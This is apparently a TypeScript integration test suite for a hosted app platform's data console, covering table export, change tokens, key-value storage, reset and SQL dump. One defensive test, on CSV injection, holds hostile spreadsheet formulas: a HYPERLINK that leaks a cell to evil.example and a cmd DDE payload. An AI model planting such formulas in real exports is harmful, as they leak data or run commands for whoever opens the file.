/**
 * The Data view's routes past a page: exports past the console's 500 rows, the change token,
 * storage.kv, reset and the SQL dump.
 */
import { describe, expect, it } from "vitest";
import type { KvPage, RowsResponse } from "../../../shared/data";
import kvValues from "../fixtures/apps/kv-values.ts?raw";
import starEntries from "../fixtures/apps/star-entries.ts?raw";
import { exportOf, json, numbers, rows, sql, tables, version } from "../support/data-helpers";
import { api, app, call, createProject, deploy, on } from "../support/helpers";

/** A download's text, or its first `maxLines` lines and no more (an export that never ends is cut here). */
async function readAtMost(response: Response, maxLines: number): Promise<string> {
  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
  const decoder = new TextDecoder();
  let text = "";
  let lines = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return text + decoder.decode();
    const chunk = decoder.decode(value, { stream: true });
    text += chunk;
    lines += chunk.split("\n").length - 1;
    if (lines > maxLines) {
      await reader.cancel();
      return text;
    }
  }
}

describe("export", () => {
  it("streams a whole table as CSV, past the console's 500 rows, telling NULL from ''", async () => {
    const p = await createProject();
    await numbers(p, 1234);
    await sql(p, "INSERT INTO nums VALUES (2000, '', NULL), (2001, 'say \"hi\", then\nleave', 3)");
    await sql(p, "CREATE TABLE b (id INTEGER PRIMARY KEY, data BLOB)");
    await sql(p, "INSERT INTO b (data) VALUES (x'00ff10')");
    const response = await api.send("exportTable", exportOf(p, "nums", "csv"));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(response.headers.get("content-disposition")).toMatch(/filename="nums\.csv"/);
    const text = await response.text();
    const lines = text.split("\r\n");
    expect(lines[0]).toBe("id,name,score");
    expect(lines[1]).toBe("1,row 1,1");
    expect(lines[10]).toBe("10,row 10,");
    expect(text).toContain('\r\n2000,"",\r\n2001,"say ""hi"", then\nleave",3\r\n');
    expect(lines.filter((l) => /^\d+,/.test(l))).toHaveLength(1236);
    const blobs = await (await api.send("exportTable", exportOf(p, "b", "csv"))).text();
    expect(blobs).toBe("id,data\r\n1,X'00FF10'\r\n");
  });

  it("pages and exports wide rows whole, though the console cuts a result at 8 MiB", async () => {
    const p = await createProject();
    // 500 rows of ten 1,000-character cells: a page is about 10 MB as the console counts it.
    const cells = Array.from({ length: 10 }, (_, i) => `c${i} TEXT`).join(", ");
    await sql(p, `CREATE TABLE wide (id INTEGER PRIMARY KEY, ${cells})`);
    const text = Array.from({ length: 10 }, () => "printf('%.1000c', 'x')").join(", ");
    await sql(
      p,
      `WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < 500) INSERT INTO wide SELECT i, ${text} FROM s`,
    );
    const page = await json<RowsResponse>(await rows(p, "wide", { limit: 500 }));
    expect(page.rows.map((r) => r.values[0])).toEqual(Array.from({ length: 500 }, (_, i) => i + 1));
    const exported = (await (await api.send("exportTable", exportOf(p, "wide", "json"))).json()) as { id: number }[];
    expect(exported.map((r) => r.id)).toEqual(Array.from({ length: 500 }, (_, i) => i + 1));
  });

  it("exports JSON: an array of objects, BLOBs whole as hex", async () => {
    const p = await createProject();
    await numbers(p, 600);
    const exported = (await (await api.send("exportTable", exportOf(p, "nums", "json"))).json()) as unknown[];
    expect(exported).toHaveLength(600);
    expect(exported[599]).toEqual({ id: 600, name: "row 600", score: null });
    await sql(p, "CREATE TABLE pairs (k BLOB PRIMARY KEY, v) WITHOUT ROWID");
    await sql(
      p,
      "WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < 700) INSERT INTO pairs SELECT randomblob(40), i FROM s",
    );
    const keyed = (await (await api.send("exportTable", exportOf(p, "pairs", "json"))).json()) as {
      k: { blob: string; bytes: number };
    }[];
    expect(keyed).toHaveLength(700);
    expect(keyed[0]?.k.bytes).toBe(40);
    expect(keyed[0]?.k.blob).toHaveLength(80);
  });

  it("ends the export of a view that never ends, with a note after the last row", async () => {
    const p = await createProject();
    await sql(p, "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c");
    const started = Date.now();
    const csv = await readAtMost(await api.send("exportTable", exportOf(p, "v", "csv")), 100_010);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe("x");
    expect(lines[100_000]).toBe("100000");
    expect(lines[100_001]).toMatch(/^"Export stopped after 100,000 rows: a view \(read by offset/);
    expect(lines).toHaveLength(100_003);
    // JSON's note (a string after the rows) is the format's own: tests/unit/server/supervisor/export-stream.test.ts.
    console.log(`the export of an endless view ended in ${Date.now() - started} ms`);
  });

  it("neutralises visitors' formulas in CSV (OWASP's CSV injection); JSON keeps them exact", async () => {
    // A guest book: visitors sign it with whatever they like, the owner downloads the entries.
    const p = await createProject();
    await deploy(p, { "app.ts": starEntries });
    const entries = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\t=1",
      "\r=1",
      "Ada",
    ];
    for (const [i, name] of entries.entries()) {
      const signed = await app(p, "/sign", { method: "POST", body: JSON.stringify({ name, stars: i === 0 ? -2 : i }) });
      expect(signed.status).toBe(200);
    }
    const csv = await (await api.send("exportTable", exportOf(p, "entries", "csv"))).text();
    expect(csv).toBe(
      [
        "id,name,stars",
        `1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",-2`,
        `2,"'+cmd|' /C calc'!A0",1`,
        `3,"'-2+3",2`,
        `4,"'@SUM(1+1)",3`,
        `5,"'\t=1",4`,
        `6,"'\r=1",5`,
        "7,Ada,6",
        "",
      ].join("\r\n"),
    );
    const json = (await (await api.send("exportTable", exportOf(p, "entries", "json"))).json()) as {
      name: string;
      stars: number;
    }[];
    expect(json.map((e) => e.name)).toEqual(entries);
    expect(json[0]?.stars).toBe(-2);
  });
});

describe("live", () => {
  it("the change token moves when anyone writes or the schema changes, and stays when nobody does", async () => {
    const p = await createProject("notes");
    await app(p, "/");
    const start = await version(p);
    expect(await version(p)).toBe(start);
    await app(p, "/"); // a read
    expect(await version(p)).toBe(start);
    await app(p, "/notes", { method: "POST", body: new URLSearchParams({ text: "hi" }) });
    const afterRequest = await version(p);
    expect(afterRequest).not.toBe(start);
    await sql(p, "UPDATE notes SET text = 'changed'");
    const afterConsole = await version(p);
    expect(afterConsole).not.toBe(afterRequest);
    await sql(p, "CREATE TABLE extra (v)");
    expect(await version(p)).not.toBe(afterConsole);
  });
});

describe("storage.kv", () => {
  it("lists the app's pairs with their types, and puts and deletes them", async () => {
    const p = await createProject();
    await deploy(p, { "app.ts": kvValues });
    const before = await version(p);
    await app(p, "/");
    expect(await version(p)).not.toBe(before);
    const list = async (query = {}) => await api.call("listKv", { ...on(p), body: query });
    const page = await list();
    expect(page.more).toBe(false);
    const byKey = Object.fromEntries(page.entries.map((e) => [e.key, e]));
    expect(byKey.config).toEqual({ key: "config", type: "object", preview: '{"theme":"dark","size":3}', json: true });
    expect(byKey.count).toMatchObject({ type: "number", preview: "7", json: true });
    expect(byKey.when).toMatchObject({ type: "Date", preview: "1970-01-01T00:00:00.000Z", json: false });
    expect(byKey.bytes).toMatchObject({ type: "Uint8Array", preview: "3 bytes: 0102ff", json: false });
    expect(byKey.long?.preview).toHaveLength(1000);
    expect(byKey.long?.json).toBe(false);
    expect((await list({ limit: 2 })).entries.map((e) => e.key)).toEqual(["bytes", "config"]);
    expect((await list({ limit: 2, startAfter: "config" })).more).toBe(true);
    expect((await list({ prefix: "co" })).entries.map((e) => e.key)).toEqual(["config", "count"]);
    const put = await api.send("putKv", { ...on(p), body: { key: "edited", value: [1, "two"] } });
    expect((await json<KvPage>(put)).entries[0]).toMatchObject({ key: "edited", type: "array" });
    expect(await (await app(p, "/")).json()).toEqual([1, "two"]);
    const removed = await api.send("deleteKv", { ...on(p), body: { keys: ["count", "nope"] } });
    expect(await json(removed)).toEqual({ deleted: 1 });
  });
});

describe("reset and dump", () => {
  it("drops every table and pair after a snapshot; restoring the live version with its data undoes it", async () => {
    const p = await createProject("notes");
    await app(p, "/notes", { method: "POST", body: new URLSearchParams({ text: "gone soon" }) });
    await sql(p, "CREATE TABLE extra (v)");
    await api.send("putKv", { ...on(p), body: { key: "kept", value: 1 } });
    const refused = await call(api.path("resetData", { params: { id: p.id } }), {
      method: "POST",
      token: p.token,
      json: {},
    });
    expect(refused.status).toBe(400);
    expect((await tables(p)).tables).toHaveLength(2);
    const reset = await api.call("resetData", { ...on(p), body: { confirm: true } });
    expect(reset).toMatchObject({ droppedTables: ["extra", "notes"], version: 1, snapshot: { snapshot: true } });
    // The guest book's constructor makes its table again, empty; the pair is gone.
    expect(await (await app(p, "/api/notes")).json()).toEqual([]);
    expect((await tables(p)).tables).toEqual([{ name: "notes", kind: "table", rowCount: 0 }]);
    const kv = await api.call("listKv", { ...on(p), body: {} });
    expect(kv.entries).toEqual([]);

    const undo = await api.send("restoreVersion", {
      params: { id: p.id, version: 1 },
      credential: p.token,
      body: { data: true },
    });
    expect(undo.status, await undo.clone().text()).toBe(200);
    expect(await (await app(p, "/api/notes")).json()).toEqual([expect.objectContaining({ text: "gone soon" })]);
    expect((await tables(p)).tables.map((t) => t.name)).toEqual(["extra", "notes"]);
  });

  it("resets without a snapshot when the project keeps none, and says so", async () => {
    const p = await createProject("notes");
    await api.send("setSnapshotSettings", { ...on(p), body: { maxVersions: 0 } });
    const reset = await api.call("resetData", { ...on(p), body: { confirm: true } });
    expect(reset.snapshot).toMatchObject({ snapshot: false, note: expect.stringMatching(/keeps no snapshots/) });
  });

  it("dumps the database as a SQL script that rebuilds it", async () => {
    const p = await createProject("notes");
    await app(p, "/notes", { method: "POST", body: new URLSearchParams({ text: "it's dumped" }) });
    const response = await api.send("dumpData", on(p));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^application\/sql/);
    const script = await response.text();
    expect(script).toContain("CREATE TABLE notes");
    expect(script).toMatch(/INSERT INTO "notes"\("id","text","created_at"\) VALUES\(1,'it''s dumped',/);
    // Run it on an empty project: the same rows come back.
    const copy = await createProject("blank");
    for (const statement of script.split(/;\n/).filter((s) => /^(CREATE|INSERT)/.test(s))) {
      await sql(copy, statement);
    }
    const page = await json<RowsResponse>(await rows(copy, "notes"));
    expect(page.rows[0]?.values[1]).toBe("it's dumped");
  });
});
